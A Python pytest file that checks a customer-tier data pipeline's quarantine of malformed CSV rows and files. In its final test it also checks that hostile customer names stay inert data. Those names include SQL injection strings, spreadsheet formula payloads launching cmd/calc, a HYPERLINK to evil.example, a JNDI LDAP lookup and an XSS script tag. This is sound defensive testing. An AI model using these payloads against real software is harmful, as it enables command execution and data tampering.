"""sources.md 'Bad input', end to end: the real pipeline (ingest + dbt + publish) on dirty inboxes.

1. The worked example inbox, clean, against a dirty copy of it: the same good data plus bad
   rows of every kind in every feed, bad whole files, a file still being written, an
   identical re-delivery under another name and a GBK re-encoding of a customers file. The
   tier tables must be identical, every bad row and file quarantined with the reason written
   down here by hand, and every good row in raw exactly once.
2. Hostile customer names (SQL, quotes, Chinese, spreadsheet formulas) survive unchanged into
   the marts, and the CSV export defuses formulas.
"""

from __future__ import annotations

import csv
import io
import shutil
from collections import Counter
from pathlib import Path

import pytest

from conftest import rows, run, write_inbox
from keyaccounts.ingest.contract import FEEDS, ROW_REASONS
from keyaccounts.ingest.loader import PERSONAL_WITHHELD

THROUGH = "2024-06"
TS = "2024-05-02T08:00:00+08:00"  # updated_at of the example's rows
LATE = "2024-06-20T08:00:00+08:00"  # later: a bad row that leaked would win the de-duplication
META = ("_file", "_line", "_file_seq", "_run_id", "_loaded_at")


def csv_bytes(header: list[str], records: list[list[str]], encoding: str = "utf-8",
              lineterminator: str = "\n") -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=lineterminator)
    writer.writerow(header)
    writer.writerows(records)
    return buf.getvalue().encode(encoding)


def header(feed: str) -> list[str]:
    return FEEDS[feed].column_names


def key_of(feed: str, record: dict) -> tuple:
    return tuple(record[k] or None for k in FEEDS[feed].key)


def norm_reason(reason: str) -> str:
    return ";".join(sorted(reason.split(";")))


# --------------------------------------------------------------------------- the good data both inboxes share

# A customers file with an extra Chinese-named customer (and K1 re-delivered unchanged): UTF-8 in
# the clean inbox, GBK in the dirty one.
EXTRA_CUSTOMERS = [
    ["K1", "华东重工集团", "manufacturing", "global", "East", "王敏", "2021-06-01", TS],
    ["K7", "华南精密制造有限公司", "manufacturing", "national", "South", "李强", "2023-06-01", TS],
]
EXTRA_ORDERS = [
    ["O-K7-202405", "K7", "C-K7-2024", "2024-05-20", "completed", "CNY", "88000", "80000", "56000", TS],
]
GOOD_OVERRIDES = [
    ["K4", "2024-05", "A", "strategic account, renewal pending", "王敏", TS],
]


def build_clean(root: Path, example_dir: Path) -> Path:
    inbox = root / "clean"
    shutil.copytree(example_dir / "inbox", inbox)
    (inbox / "customers" / "part-0002.csv").write_bytes(csv_bytes(header("customers"), EXTRA_CUSTOMERS))
    (inbox / "orders" / "part-0003.csv").write_bytes(csv_bytes(header("orders"), EXTRA_ORDERS))
    (inbox / "tier_overrides").mkdir()
    (inbox / "tier_overrides" / "part-0001.csv").write_bytes(csv_bytes(header("tier_overrides"), GOOD_OVERRIDES))
    return inbox


# --------------------------------------------------------------------------- bad rows, with the reason expected

SURVEY_OK = ["2024Q2", "2024-05-20T10:00:00+08:00", "10", "5", "5", "5", "5", "5", "", "", "", ""]

# feed -> [(record as written, expected reason)]; every record would change the tier table if it
# leaked (existing customers, later updated_at, keys of real rows where it matters).
BAD_ROWS: dict[str, list[tuple[list[str], str]]] = {
    "customers": [
        (["K1", "", "manufacturing", "global", "East", "王敏", "2021-06-01", LATE], "missing:customer_name"),
        (["", "Nameless Co", "retail", "local", "South", "张伟", "2024-03-01", LATE], "missing:customer_id"),
        (["K2", "Northwind Finance", "finance", "national", "North", "李强", "15/09/2021", LATE],
         "bad_date:signed_on"),
        (["K9", "Leap Day Ltd", "retail", "local", "South", "张伟", "2023-02-29", LATE], "bad_date:signed_on"),
        # year 0000: DuckDB reads 1 BC, PostgreSQL cannot store it (K6 would be evaluated from the first month)
        (["K6", "Summit Retail", "retail", "local", "South", "张伟", "0000-01-01", LATE], "bad_date:signed_on"),
        (["K3", "蓝海科技", "aerospace", "local", "South", "张伟", "2022-03-01", LATE], "not_allowed:industry"),
        (["K4", "Harbor Logistics", "logistics", "galactic", "East", "王敏", "2021-01-10", LATE],
         "not_allowed:scope"),
        (["K5", "西部能源", "energy", "national", "West", "刘洋", "2022-07-20", "2024-06-20 25:00"],
         "bad_timestamp:updated_at"),
        (["K6", "Summit Retail", "retail", "local", "South", "张伟", "2024-03-01", LATE, "surplus"],
         "too_many_fields"),
    ],
    "orders": [
        (["O-K1-202406", "", "C-K1-2024", "2024-06-15", "completed", "CNY", "110000.0", "100000", "70000.0", LATE],
         "missing:customer_id"),
        (["O-K2-202406", "K2", "C-K2-2024", "15/06/2024", "completed", "CNY", "44000.0", "40000", "28000.0", LATE],
         "bad_date:order_date"),
        (["O-K3-202406", "K3", "C-K3-2024", "2024-06-15", "completed", "CNY", "132000.0", "120,000", "84000.0", LATE],
         "bad_number:net_amount"),
        (["O-BAD-EXP", "K4", "", "2024-06-04", "completed", "CNY", "5e3", "5000", "", LATE],
         "bad_number:list_amount"),
        # the cancelled order of K5 becoming 'shipped': if it leaked, 90000 would count
        (["O-K5-X1", "K5", "", "2024-02-10", "shipped", "CNY", "90000", "90000", "", LATE], "not_allowed:status"),
        (["O-BAD-NEG", "K4", "", "2024-06-01", "completed", "CNY", "-5000", "-5000", "", LATE],
         "out_of_range:list_amount;out_of_range:net_amount"),
        (["O-BAD-COST", "K4", "", "2024-06-06", "completed", "CNY", "5000", "5000", "-1", LATE],
         "out_of_range:cost_amount"),
        (["O-BAD-CUR", "K4", "", "2024-06-03", "completed", "rmb", "5000", "5000", "", LATE], "bad_currency:currency"),
        (["O-BAD-TWO", "K4", "", "2024-06-05", "", "CNY", "5000", "abc", "", LATE],
         "missing:status;bad_number:net_amount"),
        (["O-BAD-WIDE", "K4", "", "2024-06-02", "completed", "CNY", "5000", "5000", "", LATE, "surplus"],
         "too_many_fields"),
    ],
    "invoices": [
        (["I-BAD-1", "K1", "", "", "2024-07-15", "CNY", "100000", LATE], "missing:invoice_date"),
        (["I-BAD-2", "K1", "", "2024-06-15", "2024-07-32", "CNY", "100000", LATE], "bad_date:due_date"),
        (["I-BAD-3", "K1", "", "2024-06-15", "2024-07-15", "CNY", "一百", LATE], "bad_number:amount"),
        (["I-BAD-4", "K1", "", "2024-06-15", "2024-07-15", "CNY", "-100000", LATE], "out_of_range:amount"),
        (["I-K5-202406", "K5", "O-K5-202406", "2024-06-15", "2024-06-01", "CNY", "3000", LATE], "due_before_invoice"),
        (["I-BAD-7", "K1", "", "2024-06-15", "2024-07-15", "US", "100000", LATE], "bad_currency:currency"),
        (["I-BAD-6", "K1", "", "2024-06-15", "2024-07-15", "CNY", "100000", LATE, "x"], "too_many_fields"),
    ],
    "payments": [
        (["P-BAD-1", "", "K5", "2024-06-20", "CNY", "3000", "bank_transfer", LATE], "missing:invoice_id"),
        (["P-BAD-2", "I-K5-202406", "K5", "2024-06-31", "CNY", "3000", "bank_transfer", LATE],
         "bad_date:payment_date"),
        (["P-BAD-3", "I-K5-202406", "K5", "2024-06-20", "CNY", "3,000.00", "bank_transfer", LATE],
         "bad_number:amount"),
        (["P-BAD-4", "I-K5-202406", "K5", "2024-06-20", "CNY", "-3000", "refund", LATE], "out_of_range:amount"),
        (["P-BAD-5", "I-K5-202406", "K5", "2024-06-20", "CNY", "0", "bank_transfer", LATE], "out_of_range:amount"),
        (["P-BAD-6", "I-K5-202406", "K5", "2024-06-20", "CNY", "3000", "bank_transfer", LATE, "extra"],
         "too_many_fields"),
    ],
    "survey_responses": [
        (["R-BAD-1", "", *SURVEY_OK, LATE], "missing:customer_id"),
        (["R-BAD-2", "K5", "2024Q2", "2024-02-30T10:00:00+08:00", *SURVEY_OK[2:], LATE],
         "bad_timestamp:submitted_at"),
        (["R-BAD-3", "K5", *SURVEY_OK[:2], "11", *SURVEY_OK[3:], LATE], "out_of_range:nps_score"),
        (["R-BAD-4", "K5", *SURVEY_OK[:2], "-1", *SURVEY_OK[3:], LATE], "out_of_range:nps_score"),
        (["R-BAD-5", "K5", *SURVEY_OK[:3], "five", *SURVEY_OK[4:], LATE], "bad_integer:satisfaction"),
        (["R-BAD-6", "K5", *SURVEY_OK[:5], "0", *SURVEY_OK[6:], LATE], "out_of_range:delivery"),
        # an unquoted comma in the comment: one field too many, and every later value shifts right
        # so updated_at reads the empty respondent_email
        (["R-BAD-7", "K5", *SURVEY_OK[:8], "售后很好", " 响应快", "", "", "", LATE],
         "too_many_fields;missing:updated_at"),
    ],
    "fx_rates": [
        (["USD", "2024-04", "-7.2"], "out_of_range:rate_to_reporting"),
        (["JPY", "2024-04", "0"], "out_of_range:rate_to_reporting"),
        (["USD", "2024-13", "7.1"], "bad_month:month"),
        (["EUR", "2024-04", "seven"], "bad_number:rate_to_reporting"),
        (["", "2024-05", "7.1"], "missing:currency"),
        (["usd", "2024-05", "7.1"], "bad_currency:currency"),
        (["GBP", "2024-04", "9.1", "x"], "too_many_fields"),
    ],
    "tier_overrides": [
        (["K1", "2024-06", "C", "manual downgrade", "", LATE], "not_approved"),
        (["K2", "2024-06", "D", "new tier", "王敏", LATE], "not_allowed:tier"),
        (["K3", "2024-6", "C", "manual downgrade", "王敏", LATE], "bad_month:eval_month"),
        (["K5", "2024-06", "A", "", "王敏", LATE], "missing:reason"),
        (["", "2024-06", "A", "no customer", "王敏", LATE], "missing:customer_id"),
        (["K6", "2024-06", "A", "strategic", "王敏", LATE, "x"], "too_many_fields"),
    ],
}

# Whole files that cannot be read: name -> (bytes, reason). The header of the first lacks net_amount.
BAD_FILES: dict[str, tuple[bytes, str]] = {
    "orders/part-0800-no-net-amount.csv": (
        b"order_id,customer_id,order_date,status,list_amount,updated_at\n"
        b"O-LEAK-1,K4,2024-06-10,completed,900000," + LATE.encode() + b"\n",
        "missing_columns",
    ),
    "invoices/part-0800-empty.csv": (b"", "empty"),
    "payments/part-0800-garbage.csv": (bytes(range(256)) * 8, "unreadable"),
    "survey_responses/part-0800-latin.csv": (
        b"response_id,customer_id,submitted_at,updated_at\n" + b"R-X,K1,\xff\xfe\xff\xfe,2024\n",
        "undecodable",
    ),
    "fx_rates/part-0800-bom-only.csv": (b"\xef\xbb\xbf\r\n", "empty"),
    "tier_overrides/part-0800-broken.jsonl": (b'{"customer_id": "K1", "eval_month": "2024-06", \n', "unreadable"),
}


def build_dirty(root: Path, example_dir: Path) -> tuple[Path, Counter]:
    """The clean inbox plus bad rows, bad files, a .part file, a re-delivery and a GBK copy.

    Returns the inbox and the expected quarantine as a Counter of (feed, file, line, key, reason)."""
    inbox = build_clean(root, example_dir)
    inbox = inbox.rename(root / "dirty")
    expected: Counter = Counter()

    def expect(feed: str, rel: str, line: int, record: list[str], reason: str) -> None:
        named = dict(zip(header(feed), record))
        expected[(feed, rel, line, key_of(feed, named), norm_reason(reason))] += 1

    # orders: the bad rows interleaved with the good rows of part-0002.csv (CRLF line ends);
    # the good rows keep their content, only their line numbers move.
    rel = "orders/part-0002.csv"
    good = list(csv.reader(io.StringIO((inbox / rel).read_text(encoding="utf-8"))))[1:]
    mixed: list[list[str]] = []
    bad = list(BAD_ROWS["orders"])
    for i, (record, reason) in enumerate(bad):
        mixed.append(record)
        expect("orders", rel, len(mixed) + 1, record, reason)
        if i in (2, 6) and good:
            mixed.append(good.pop(0))
    mixed.extend(good)
    (inbox / rel).write_bytes(csv_bytes(header("orders"), mixed, lineterminator="\r\n"))

    # every other feed: a file of bad rows of its own
    for feed, bad_rows in BAD_ROWS.items():
        if feed == "orders":
            continue
        rel = f"{feed}/part-0900-bad.csv"
        (inbox / rel).write_bytes(csv_bytes(header(feed), [r for r, _ in bad_rows]))
        for i, (record, reason) in enumerate(bad_rows):
            expect(feed, rel, i + 2, record, reason)

    for rel, (data, _) in BAD_FILES.items():
        (inbox / rel).write_bytes(data)

    # a file still being written: left for the next run (it would add a customer K8)
    (inbox / "customers" / "part-0003.csv.part").write_bytes(
        csv_bytes(header("customers"), [["K8", "Half Written Ltd", "retail", "local", "East", "王敏",
                                         "2024-01-01", LATE]]))
    # identical re-deliveries under other names: taken once
    shutil.copyfile(inbox / "orders" / "part-0001.csv", inbox / "orders" / "part-0001 (1).csv")
    shutil.copyfile(inbox / "payments" / "part-0001.csv", inbox / "payments" / "part-0001-resent.csv")
    # the extra customers file as a Chinese Excel export would write it
    gbk = csv_bytes(header("customers"), EXTRA_CUSTOMERS, encoding="gbk", lineterminator="\r\n")
    with pytest.raises(UnicodeDecodeError):
        gbk.decode("utf-8")  # really not UTF-8, so the loader has to detect GBK
    (inbox / "customers" / "part-0002.csv").write_bytes(gbk)
    return inbox, expected


@pytest.fixture(scope="module")
def clean_and_dirty(tmp_path_factory, example_dir):
    root = tmp_path_factory.mktemp("bad_input")
    clean_inbox = build_clean(root / "c", example_dir)
    dirty_inbox, expected = build_dirty(root / "d", example_dir)
    clean_wh, dirty_wh = root / "clean_wh" / "wh.duckdb", root / "dirty_wh" / "wh.duckdb"
    clean = run(clean_inbox, clean_wh, THROUGH, reject_threshold=1.0)
    dirty = run(dirty_inbox, dirty_wh, THROUGH, reject_threshold=1.0)
    return dict(clean_wh=clean_wh, dirty_wh=dirty_wh, clean=clean, dirty=dirty, expected=expected)


def test_dirty_inbox_gives_the_same_tier_table_as_the_clean_one(clean_and_dirty):
    """sources.md 'Bad input': no good row is ever lost and no bad row silently enters the marts."""
    sql = "select * from marts.customer_tier_monthly order by customer_id, eval_month"
    clean = rows(clean_and_dirty["clean_wh"], sql)
    dirty = rows(clean_and_dirty["dirty_wh"], sql)
    assert len(clean) > 6 * 12  # the example's customers over 18 months, plus K7
    assert {r["customer_id"] for r in clean} == {"K1", "K2", "K3", "K4", "K5", "K6", "K7"}
    assert dirty == clean
    # the customer that arrived GBK-encoded keeps its Chinese name
    names = {r["customer_id"]: r["customer_name"]
             for r in rows(clean_and_dirty["dirty_wh"], "select customer_id, customer_name from marts.dim_customer")}
    assert names["K7"] == "华南精密制造有限公司" and names["K1"] == "华东重工集团"
    assert "K8" not in names and "K9" not in names


def test_clean_inbox_quarantines_nothing(clean_and_dirty):
    wh = clean_and_dirty["clean_wh"]
    for feed in FEEDS:
        assert rows(wh, f"select count(*) as n from quarantine.{feed}") == [{"n": 0}], feed
    assert rows(wh, "select count(*) as n from quarantine.files") == [{"n": 0}]


def test_every_bad_row_is_quarantined_with_its_reason(clean_and_dirty):
    """sources.md 'Bad input': a bad row goes to its feed's quarantine with the file, line, raw
    values and a machine-readable reason."""
    wh = clean_and_dirty["dirty_wh"]
    got: Counter = Counter()
    for feed, spec in FEEDS.items():
        keys = ", ".join(spec.key)
        for r in rows(wh, f"select {keys}, _file, _line, _reason from quarantine.{feed}"):
            got[(feed, r["_file"], r["_line"], key_of(feed, r), norm_reason(r["_reason"]))] += 1
    assert got == clean_and_dirty["expected"]


def test_quarantined_rows_keep_their_raw_values(clean_and_dirty):
    """sources.md 'Bad input': the quarantine keeps the raw values, as written."""
    wh = clean_and_dirty["dirty_wh"]
    assert rows(wh, "select net_amount, list_amount, status, updated_at from quarantine.orders "
                    "where order_id = 'O-K3-202406'") == [
        dict(net_amount="120,000", list_amount="132000.0", status="completed", updated_at=LATE)]
    assert rows(wh, "select amount from quarantine.invoices where invoice_id = 'I-BAD-3'") == [dict(amount="一百")]
    assert rows(wh, "select customer_id, nps_score from quarantine.survey_responses where response_id = 'R-BAD-3'") == [
        dict(customer_id="K5", nps_score="11")]
    # R-BAD-7's values shifted right (a comma in its comment): in a feed with personal data such a row keeps
    # only its key, since any of its values may be a respondent's name, phone or email
    assert rows(wh, "select customer_id, comment, updated_at from quarantine.survey_responses "
                    "where response_id = 'R-BAD-7'") == [dict(customer_id=PERSONAL_WITHHELD, comment=PERSONAL_WITHHELD,
                                                              updated_at=None)]


def test_every_bad_file_is_quarantined_with_its_reason(clean_and_dirty):
    """sources.md 'Bad input': a file that cannot be read as a whole is quarantined whole with its
    reason; a file still being written (.part) is left for the next run, not quarantined."""
    wh = clean_and_dirty["dirty_wh"]
    got = {(r["file_name"], r["reason"]) for r in rows(wh, "select file_name, reason from quarantine.files")}
    assert got == {(name, reason) for name, (_, reason) in BAD_FILES.items()}
    assert rows(wh, "select count(*) as n from quarantine.files") == [{"n": len(BAD_FILES)}]
    names = {r["file_name"] for r in rows(wh, "select file_name from audit.manifest")}
    assert not any(n.endswith(".part") for n in names)
    # an identical re-delivery is taken once, whichever of the two names comes first in byte order
    assert len(names & {"orders/part-0001.csv", "orders/part-0001 (1).csv"}) == 1
    assert len(names & {"payments/part-0001.csv", "payments/part-0001-resent.csv"}) == 1
    assert rows(wh, "select count(*) as n from raw.customers where customer_id = 'K8'") == [{"n": 0}]
    feeds = clean_and_dirty["dirty"].ingest.feeds
    assert feeds["orders"].files_skipped == 1 and feeds["payments"].files_skipped == 1
    assert feeds["customers"].files_seen == 3  # part-0001, part-0002 (GBK), part-0900-bad; not the .part


def test_every_good_row_is_in_raw_exactly_once(clean_and_dirty):
    """Rows read in the dirty run minus the quarantined ones are exactly the clean run's raw rows:
    the same values, each once (the re-deliveries are not taken twice, the GBK file decodes to
    the same text)."""
    clean_wh, dirty_wh = clean_and_dirty["clean_wh"], clean_and_dirty["dirty_wh"]
    expected_bad = Counter(k[0] for k in clean_and_dirty["expected"])
    # part-0800-no-net-amount.csv is quarantined whole (missing_columns): like any file that cannot be read as
    # a whole it has no rows to count (its one row is in quarantine.files' detail), so the others still load
    for feed, spec in FEEDS.items():
        cols = ", ".join(spec.column_names)
        clean_raw = Counter(tuple(r.values()) for r in rows(clean_wh, f"select {cols} from raw.{feed}"))
        dirty_raw = Counter(tuple(r.values()) for r in rows(dirty_wh, f"select {cols} from raw.{feed}"))
        assert dirty_raw == clean_raw, feed
        audit = rows(dirty_wh, "select coalesce(sum(rows_read), 0) as read, coalesce(sum(rows_loaded), 0) as loaded, "
                               "coalesce(sum(rows_quarantined), 0) as bad from audit.manifest where feed = ?", [feed])[0]
        n_clean = sum(clean_raw.values())
        assert audit["bad"] == expected_bad[feed], feed
        assert audit["read"] - audit["bad"] == audit["loaded"] == n_clean, feed
        stats = clean_and_dirty["dirty"].ingest.feeds[feed]
        assert (stats.rows_read - stats.rows_quarantined, stats.rows_loaded) == (n_clean, n_clean), feed



def test_every_reason_code_in_quarantine_is_documented(clean_and_dirty):
    """sources.md 'Bad input': the reason is machine-readable; docs/ingest.md and
    contract.ROW_REASONS list the codes a quarantined row can carry."""
    docs = (Path(__file__).resolve().parents[1] / "docs" / "ingest.md").read_text(encoding="utf-8")
    codes = {code.split(":")[0] for *_, reason in clean_and_dirty["expected"] for code in reason.split(";")}
    assert "too_many_fields" in codes and "missing" in codes
    undocumented = {c for c in codes if c not in ROW_REASONS or f"`{c}" not in docs}
    assert undocumented == set()

# --------------------------------------------------------------------------- hostile names

NAMES = {
    "N01": "Robert'); DROP TABLE orders; --",
    "N02": 'O\'Brien "Quoted" Ltd',
    "N03": "华东重工集团",
    "N04": "=cmd|' /C calc'!A0",
    "N05": "+86 上海贸易有限公司",
    "N06": "-2+3+cmd|' /C calc'!A0",
    "N07": "@SUM(1+1)*cmd|' /C calc'!A0",
    "N08": "Smith, Jones & Partners\nLondon",
    "N09": "{{ 7*7 }} ${jndi:ldap://x/a} <script>alert(1)</script>",
    "N10": "'; DELETE FROM marts.dim_customer; --",
    "N11": '"Quoted" at the start, \\N and \\\\ too',
}
MANAGERS = {"N01": "=HYPERLINK(\"http://evil.example\",\"x\")", "N02": "王敏"}
FORMULA = ("=", "+", "-", "@")


def test_hostile_names_survive_into_marts_and_the_export(tmp_path):
    """sources.md 'Columns' (text may contain Chinese): names are data, never code. They reach
    marts.dim_customer and marts.customer_tier_monthly unchanged; the CSV export (UTF-8 with
    BOM) prefixes a cell starting with = + - @ with a single quote against formula injection."""
    customers, orders = io.StringIO(), io.StringIO()
    cw, ow = csv.writer(customers, lineterminator="\n"), csv.writer(orders, lineterminator="\n")
    cw.writerow(header("customers"))
    ow.writerow(header("orders"))
    for i, (cid, name) in enumerate(NAMES.items()):
        cw.writerow([cid, name, "retail", "local", "East", MANAGERS.get(cid, "张伟"), "2023-01-01", TS])
        ow.writerow([f"O-{cid}", cid, "", "2024-06-10", "completed", "CNY", str(1000 * (i + 1)),
                     str(1000 * (i + 1)), "", TS])
    inbox = write_inbox(tmp_path / "inbox", {"customers/part-0001.csv": customers.getvalue(),
                                             "orders/part-0001.csv": orders.getvalue()})
    warehouse = tmp_path / "wh" / "wh.duckdb"
    result = run(inbox, warehouse, THROUGH, reject_threshold=1.0)
    assert result.ingest.feeds["customers"].rows_quarantined == 0

    dim = {r["customer_id"]: r for r in rows(warehouse, "select * from marts.dim_customer")}
    assert {cid: r["customer_name"] for cid, r in dim.items()} == NAMES
    assert dim["N01"]["account_manager"] == MANAGERS["N01"]
    tiers = rows(warehouse, "select customer_id, customer_name from marts.customer_tier_monthly where eval_month = ?",
                 [THROUGH])
    assert {r["customer_id"]: r["customer_name"] for r in tiers} == NAMES
    # the 'DROP TABLE orders' / 'DELETE FROM' names did nothing
    assert rows(warehouse, "select count(*) as n from raw.orders") == [{"n": len(NAMES)}]
    assert rows(warehouse, "select count(*) as n from marts.dim_customer") == [{"n": len(NAMES)}]

    export = warehouse.parent / "exports" / f"tiers_{THROUGH}.csv"
    raw = export.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with export.open(encoding="utf-8-sig", newline="") as fh:
        exported = {r["customer_id"]: r for r in csv.DictReader(fh)}
    assert set(exported) == set(NAMES)
    for cid, name in NAMES.items():
        want = "'" + name if name.startswith(FORMULA) else name
        assert exported[cid]["customer_name"] == want, cid
    assert exported["N01"]["account_manager"] == "'" + MANAGERS["N01"]
    assert exported["N02"]["account_manager"] == "王敏"
    # the HTML report, where there is one, shows names as text, never as markup
    report = warehouse.parent / "exports" / f"report_{THROUGH}.html"
    if report.exists():
        assert "<script>alert(1)</script>" not in report.read_text(encoding="utf-8")
    # no text cell of the export starts with a formula character (a negative number may)
    for record in exported.values():
        for column, value in record.items():
            assert not value.startswith(FORMULA) or _is_number(value), (column, value)


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True
